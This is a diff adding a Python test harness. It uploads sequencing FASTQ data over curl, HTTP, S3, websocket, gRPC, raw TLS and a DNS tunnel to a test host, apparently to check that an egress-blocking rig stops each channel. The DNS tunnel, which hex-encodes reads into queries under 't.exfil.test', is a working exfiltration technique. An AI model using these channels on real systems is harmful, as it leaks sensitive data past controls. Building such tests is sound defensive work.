@@ -1,0 +1,115 @@
+"""The instrument: real clients sending run data out, run inside the "instrument" namespace.
+
+    python -m tests.hw.net.instrument SCENARIO RUN_DIR RIG_CA HOST
+
+Exit 0 when the server took it, 3 when the connection was refused or cut (a --block rig), 1 else.
+"""
+
+from __future__ import annotations
+
+import gzip
+import json
+import socket
+import ssl
+import subprocess
+import sys
+from pathlib import Path
+
+BASECALLS = Path("Data") / "Intensities" / "BaseCalls"
+
+
+def fastq(run_dir: Path, sample: str) -> bytes:
+    return next((run_dir / BASECALLS).glob(f"{sample}*.fastq.gz")).read_bytes()
+
+
+def reads(run_dir: Path, sample: str, n: int) -> list[str]:
+    lines = gzip.decompress(fastq(run_dir, sample)).decode().splitlines()
+    return lines[1::4][:n]
+
+
+def curl(run_dir: Path, ca: str, host: str) -> None:      # HTTP/2 when curl has nghttp2 (ALPN h2)
+    path = next((run_dir / BASECALLS).glob("PT9936*.fastq.gz"))
+    subprocess.run(["curl", "-sS", "--fail", "--cacert", ca, "--max-time", "60", "-X", "POST",
+                    "--data-binary", f"@{path}", f"https://{host}/upload"], check=True, capture_output=True)
+
+
+def chunked_gzip(run_dir: Path, ca: str, host: str) -> None:
+    import requests
+
+    raw = gzip.compress(gzip.decompress(fastq(run_dir, "PT5698")))
+    body = (raw[i:i + 9000] for i in range(0, len(raw), 9000))
+    r = requests.put(f"https://{host}/chunked", data=body, headers={"content-encoding": "gzip"}, verify=ca,
+                     timeout=60)
+    r.raise_for_status()
+
+
+def s3(run_dir: Path, ca: str, host: str) -> None:
+    import boto3
+
+    # by address: moto reads a bucket name from a Host that is not an S3 endpoint
+    c = boto3.client("s3", endpoint_url=f"http://{socket.gethostbyname(host)}:5000", region_name="us-east-1",
+                     aws_access_key_id="testing", aws_secret_access_key="testing")
+    c.create_bucket(Bucket="runs")
+    c.put_object(Bucket="runs", Key="PT9006-B1.fastq.gz", Body=fastq(run_dir, "PT9006"))
+
+
+def websocket(run_dir: Path, ca: str, host: str) -> None:
+    from websockets.sync.client import connect
+
+    ctx = ssl.create_default_context(cafile=ca)
+    rs = reads(run_dir, "PT9006", 80)
+    with connect(f"wss://{host}:8443/live", ssl=ctx) as ws:
+        for i in range(0, len(rs), 20):
+            ws.send(json.dumps({"type": "basecall_preview", "reads": rs[i:i + 20]}))
+            ws.recv(timeout=30)
+
+
+def grpc_call(run_dir: Path, ca: str, host: str) -> None:
+    import grpc
+
+    creds = grpc.ssl_channel_credentials(root_certificates=Path(ca).read_bytes())
+    with grpc.secure_channel(f"{host}:50051", creds) as channel:
+        put = channel.unary_unary("/sequencer.Upload/Put", request_serializer=bytes, response_deserializer=bytes)
+        put("\n".join(reads(run_dir, "PT5698", 150)).encode(), timeout=60)
+
+
+def raw_tls(run_dir: Path, ca: str, host: str) -> None:
+    ctx = ssl.create_default_context(cafile=ca)
+    with socket.create_connection((host, 9443), timeout=60) as s, ctx.wrap_socket(s, server_hostname=host) as tls:
+        tls.sendall(gzip.decompress(fastq(run_dir, "PT9936"))[:60000])
+
+
+def dns_tunnel(run_dir: Path, ca: str, host: str) -> None:
+    import dns.message
+    import dns.query
+
+    server = socket.gethostbyname(host)
+    for n, read in enumerate(reads(run_dir, "PT9936", 12)):
+        hexed = read[:76].encode().hex()
+        labels = [hexed[i:i + 60] for i in range(0, len(hexed), 60)]
+        name = ".".join([*labels, f"r{n}", "t.exfil.test"])
+        dns.query.udp(dns.message.make_query(name, "A"), server, port=53, timeout=10)
+
+
+SCENARIOS = {"curl": curl, "chunked-gzip": chunked_gzip, "s3": s3, "websocket": websocket, "grpc": grpc_call,
+             "raw-tls": raw_tls, "dns": dns_tunnel}
+
+
+def main(scenario: str, run_dir: str, ca: str, host: str) -> int:
+    try:
+        SCENARIOS[scenario](Path(run_dir), ca, host)
+    except (ConnectionError, ssl.SSLError, subprocess.CalledProcessError, OSError) as exc:
+        print(f"{scenario}: cut: {exc}", file=sys.stderr)
+        return 3
+    except Exception as exc:  # noqa: BLE001 - the client libraries' own errors for a cut connection
+        text = f"{type(exc).__name__}: {exc}"
+        print(f"{scenario}: {text}", file=sys.stderr)
+        cut = any(w in text for w in ("reset", "closed", "UNAVAILABLE", "Connection", "EOF", "aborted",
+                                      "disconnected", "RemoteDisconnected", "EndpointConnectionError", "RST_STREAM"))
+        return 3 if cut else 1
+    print(f"{scenario}: ok")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(*sys.argv[1:5]))
